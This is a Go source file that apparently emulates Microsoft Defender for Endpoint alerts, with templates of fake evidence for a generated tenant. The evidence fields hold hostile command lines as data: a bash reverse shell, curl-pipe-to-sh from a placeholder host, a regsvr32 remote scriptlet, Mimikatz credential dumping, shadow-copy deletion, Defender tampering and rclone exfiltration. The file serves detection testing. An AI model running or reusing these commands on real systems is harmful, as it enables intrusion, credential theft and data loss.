package emulator

// artifact is one piece of evidence as a template writes it. {user} and {host} are put in when an alert is made.
type artifact struct {
	kind          string // File, Process, User, Url, Ip or Registry, as evidence entityType
	name, path    string // of the file, or of the image of the process
	command       string // of the process
	parent        string // image name of the parent process
	value         string // URL or IP address; data of the registry value
	hive, key     string // of the registry key
	valueName     string // of the registry value
	publisher     string // who signed the file, "" for nobody
	familiar      bool   // a file of the system: seen, not detected
	countryLetter string // where an address is, two letters
}

// template is a kind of alert.
type template struct {
	title, text, advice string
	category            string
	severity            uint8
	source              string // detectionSource of the MDE API
	graphSource         string // detectionSource of Microsoft Graph
	family, threat      string
	techniques          []string // id, blank, name
	os                  osMask
	artifacts           []artifact
}

// paths that several templates use.
const (
	system32 = `C:\Windows\System32`
	posh     = `C:\Windows\System32\WindowsPowerShell\v1.0`
	userTemp = `C:\Users\{user}\AppData\Local\Temp`
	msCorp   = "Microsoft Corporation"
	runKey   = `SOFTWARE\Microsoft\Windows\CurrentVersion\Run`
	advice   = "Check the device's timeline around the time of the alert, isolate it if the activity is not expected, and run a full antivirus scan."
)

// templates lists the kinds of alerts a generated tenant has.
func templates() []template {
	return append(executionTemplates(), append(intrusionTemplates(), crossPlatformTemplates()...)...)
}

// executionTemplates are about code that runs on a Windows device.
func executionTemplates() []template {
	return []template{
		{
			"Suspicious PowerShell command line", "A PowerShell command line with an encoded command was run by an Office application.", advice,
			"Execution", sevMedium, "WindowsDefenderAtp", "microsoftDefenderForEndpoint", "", "",
			[]string{"T1059.001 PowerShell", "T1027 Obfuscated Files or Information"}, osWindows,
			[]artifact{
				{kind: "User"},
				{kind: "Process", name: "powershell.exe", path: posh, command: "powershell.exe -NoProfile -w hidden -enc SQBFAFgA", parent: "WINWORD.EXE", publisher: msCorp},
				{kind: "File", name: "invoice_{host}.docm", path: `C:\Users\{user}\Downloads`},
				{kind: "Url", value: "https://updates.fabrikam-cdn.example/stage/a.ps1"},
				{kind: "Ip", value: "198.51.100.23", countryLetter: "NL"},
			},
		},
		{
			"'Emotet' malware was detected", "Malware of the Emotet family was found in a file and quarantined.", advice,
			"Malware", sevHigh, "WindowsDefenderAv", "antivirus", "Emotet", "Trojan:Win32/Emotet!pz",
			[]string{"T1204.002 Malicious File"}, osWindows,
			[]artifact{
				{kind: "File", name: "scan_0931.dll", path: userTemp},
				{kind: "Process", name: "rundll32.exe", path: system32, command: `rundll32.exe C:\Users\{user}\AppData\Local\Temp\scan_0931.dll,Control_RunDLL`, parent: "EXCEL.EXE", publisher: msCorp},
				{kind: "User"},
				{kind: "Registry", hive: "HKEY_CURRENT_USER", key: runKey, valueName: "scan_0931", value: `rundll32.exe C:\Users\{user}\AppData\Local\Temp\scan_0931.dll,Control_RunDLL`},
			},
		},
		{
			"Low-reputation arbitrary code executed by signed executable", "A signed system binary was used to run code of low reputation.", advice,
			"DefenseEvasion", sevLow, "WindowsDefenderAtp", "microsoftDefenderForEndpoint", "", "",
			[]string{"T1218.010 Regsvr32", "T1218 System Binary Proxy Execution"}, osWindows,
			[]artifact{
				{kind: "User"},
				{kind: "Process", name: "regsvr32.exe", path: system32, command: "regsvr32.exe /s /n /u /i:https://tools.wingtip.example/x.sct scrobj.dll", parent: "cmd.exe", publisher: msCorp},
				{kind: "Url", value: "https://tools.wingtip.example/x.sct"},
				{kind: "Ip", value: "192.0.2.77", countryLetter: "RO"},
			},
		},
		{
			"An active 'Mimikatz' hacktool was blocked", "A tool that reads credentials from memory was blocked before it ran.", advice,
			"CredentialAccess", sevHigh, "WindowsDefenderAv", "antivirus", "Mimikatz", "HackTool:Win32/Mimikatz.D",
			[]string{"T1003.001 LSASS Memory"}, osWindows,
			[]artifact{
				{kind: "File", name: "mk64.exe", path: `C:\Users\{user}\Desktop`},
				{kind: "Process", name: "mk64.exe", path: `C:\Users\{user}\Desktop`, command: "mk64.exe privilege::debug sekurlsa::logonpasswords exit", parent: "explorer.exe"},
				{kind: "User"},
			},
		},
		{
			"Unwanted software 'Conduit' was detected", "A bundled browser toolbar was found.", "Remove the program.",
			"UnwantedSoftware", sevInformational, "WindowsDefenderAv", "antivirus", "Conduit", "PUA:Win32/Conduit",
			nil, osWindows,
			[]artifact{{kind: "File", name: "toolbar_setup.exe", path: `C:\Users\{user}\Downloads`}, {kind: "User"}},
		},
		{
			"Anomalous scheduled task creation", "A task was created that runs a script from a folder of the user.", advice,
			"Persistence", sevMedium, "CustomDetection", "scheduledAlerts", "", "",
			[]string{"T1053.005 Scheduled Task"}, osWindows,
			[]artifact{
				{kind: "Process", name: "schtasks.exe", path: system32, command: `schtasks.exe /create /tn Updater /sc minute /mo 15 /tr C:\Users\{user}\AppData\Roaming\upd.vbs`, parent: "powershell.exe", publisher: msCorp},
				{kind: "Registry", hive: "HKEY_LOCAL_MACHINE", key: `SOFTWARE\Microsoft\Windows NT\CurrentVersion\Schedule\TaskCache\Tree\Updater`, valueName: "Id", value: "{8C1B6D0E-6E5B-4C35-9A51-5B1D1D0F7A11}"},
				{kind: "File", name: "upd.vbs", path: `C:\Users\{user}\AppData\Roaming`},
				{kind: "User"},
			},
		},
	}
}

// intrusionTemplates are about an attacker at work on a Windows device or server.
func intrusionTemplates() []template {
	return []template{
		{
			"Ransomware behavior detected in the file system", "Many files were renamed in a short time and a ransom note was written.", "Isolate the device at once and restore from a backup.",
			"Ransomware", sevHigh, "WindowsDefenderAtp", "microsoftDefenderForEndpoint", "LockBit", "Ransom:Win64/Lockbit.A",
			[]string{"T1486 Data Encrypted for Impact", "T1490 Inhibit System Recovery"}, osWindows,
			[]artifact{
				{kind: "Process", name: "svhost64.exe", path: `C:\ProgramData\svc`, command: `C:\ProgramData\svc\svhost64.exe -all`, parent: "services.exe"},
				{kind: "Process", name: "vssadmin.exe", path: system32, command: "vssadmin.exe delete shadows /all /quiet", parent: "svhost64.exe", publisher: msCorp},
				{kind: "File", name: "svhost64.exe", path: `C:\ProgramData\svc`},
				{kind: "File", name: "README-RESTORE.txt", path: `C:\Users\{user}\Documents`},
				{kind: "User"},
			},
		},
		{
			"Suspicious connection to a command and control server", "A process beacons to an address known for command and control.", advice,
			"CommandAndControl", sevHigh, "CustomerTI", "customTi", "Cobalt Strike", "Backdoor:Win64/CobaltStrike",
			[]string{"T1071.001 Web Protocols"}, osWindows,
			[]artifact{
				{kind: "Process", name: "dllhost.exe", path: system32, command: "dllhost.exe", parent: "svchost.exe", publisher: msCorp},
				{kind: "Ip", value: "203.0.113.200", countryLetter: "SC"},
				{kind: "Url", value: "https://static.adatum-assets.example/jquery-3.3.1.min.js"},
				{kind: "User"},
			},
		},
		{
			"Suspicious remote activity with PsExec", "A service was started on the device from another one with PsExec.", advice,
			"LateralMovement", sevMedium, "WindowsDefenderAtp", "microsoftDefenderForEndpoint", "", "",
			[]string{"T1021.002 SMB/Windows Admin Shares", "T1569.002 Service Execution"}, osWindows,
			[]artifact{
				{kind: "Process", name: "PSEXESVC.exe", path: `C:\Windows`, command: `C:\Windows\PSEXESVC.exe`, parent: "services.exe", publisher: "Microsoft Windows Hardware Compatibility Publisher"},
				{kind: "Registry", hive: "HKEY_LOCAL_MACHINE", key: `SYSTEM\CurrentControlSet\Services\PSEXESVC`, valueName: "ImagePath", value: `%SystemRoot%\PSEXESVC.exe`},
				{kind: "User"},
			},
		},
		{
			"Tampering with Microsoft Defender Antivirus", "A setting of the antivirus was turned off in the registry.", "Turn on tamper protection.",
			"DefenseEvasion", sevMedium, "WindowsDefenderAtp", "builtInMl", "", "",
			[]string{"T1562.001 Disable or Modify Tools"}, osWindows,
			[]artifact{
				{kind: "Process", name: "reg.exe", path: system32, command: `reg.exe add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f`, parent: "cmd.exe", publisher: msCorp},
				{kind: "Registry", hive: "HKEY_LOCAL_MACHINE", key: `SOFTWARE\Policies\Microsoft\Windows Defender`, valueName: "DisableAntiSpyware", value: "1"},
				{kind: "User"},
			},
		},
		{
			"Possible data exfiltration over an alternative protocol", "Large archives were sent to a file sharing site.", advice,
			"Exfiltration", sevMedium, "AutomatedInvestigation", "automatedInvestigation", "", "",
			[]string{"T1048 Exfiltration Over Alternative Protocol", "T1560.001 Archive via Utility"}, osWindows,
			[]artifact{
				{kind: "Process", name: "rclone.exe", path: `C:\Users\Public`, command: "rclone.exe copy D:\\share remote:drop --transfers 16", parent: "cmd.exe"},
				{kind: "File", name: "share.7z", path: `C:\Users\Public`},
				{kind: "Url", value: "https://drop.proseware.example/upload"},
				{kind: "Ip", value: "198.51.100.140", countryLetter: "US"},
				{kind: "User"},
			},
		},
	}
}

// crossPlatformTemplates are about Linux and macOS, and about what can happen anywhere.
func crossPlatformTemplates() []template {
	return []template{
		{
			"Cryptocurrency mining malware on a Linux server", "A miner was started from a temporary folder.", advice,
			"Malware", sevMedium, "WindowsDefenderAtp", "microsoftDefenderForEndpoint", "CoinMiner", "Trojan:Linux/CoinMiner",
			[]string{"T1496 Resource Hijacking"}, osLinux,
			[]artifact{
				{kind: "Process", name: "kdevtmpfsi", path: "/tmp", command: "/tmp/kdevtmpfsi -o stratum+tcp://pool.trey.example:3333", parent: "bash"},
				{kind: "File", name: "kdevtmpfsi", path: "/tmp"},
				{kind: "Ip", value: "192.0.2.201", countryLetter: "DE"},
				{kind: "User"},
			},
		},
		{
			"Reverse shell activity", "A shell was connected to a remote address.", advice,
			"Execution", sevHigh, "WindowsDefenderAtp", "microsoftDefenderForEndpoint", "", "",
			[]string{"T1059.004 Unix Shell"}, osLinux | osMacOS,
			[]artifact{
				{kind: "Process", name: "bash", path: "/usr/bin", command: "bash -i >& /dev/tcp/192.0.2.14/4444 0>&1", parent: "java"},
				{kind: "Ip", value: "192.0.2.14", countryLetter: "BG"},
				{kind: "User"},
			},
		},
		{
			"Suspicious macOS launch agent", "A launch agent was written that starts an unsigned program.", advice,
			"Persistence", sevMedium, "WindowsDefenderAtp", "microsoftDefenderForEndpoint", "", "",
			[]string{"T1543.001 Launch Agent"}, osMacOS,
			[]artifact{
				{kind: "File", name: "com.updater.agent.plist", path: "/Users/{user}/Library/LaunchAgents"},
				{kind: "Process", name: "osascript", path: "/usr/bin", command: "osascript -e 'do shell script \"curl -s https://get.woodgrove.example/i | sh\"'", parent: "Terminal", publisher: "Apple"},
				{kind: "Url", value: "https://get.woodgrove.example/i"},
				{kind: "User"},
			},
		},
		{
			"Connection to a phishing site", "A browser opened a site known for phishing.", "Reset the password of the user.",
			"InitialAccess", sevLow, "SmartScreen", "smartScreen", "", "",
			[]string{"T1566.002 Spearphishing Link"}, osDesktop,
			[]artifact{
				{kind: "Url", value: "https://login.contoso-support.example/signin"},
				{kind: "Ip", value: "198.51.100.61", countryLetter: "FR"},
				{kind: "User"},
			},
		},
		{
			"Suspicious sign-in discovery commands", "Several commands that list accounts and groups were run in a row.", advice,
			"Discovery", sevInformational, "WindowsDefenderAtp", "microsoftDefenderForEndpoint", "", "",
			[]string{"T1087 Account Discovery", "T1033 System Owner/User Discovery"}, osAny,
			[]artifact{
				{kind: "Process", name: "whoami", path: "/usr/bin", command: "whoami --groups", parent: "bash", familiar: true},
				{kind: "User"},
			},
		},
	}
}
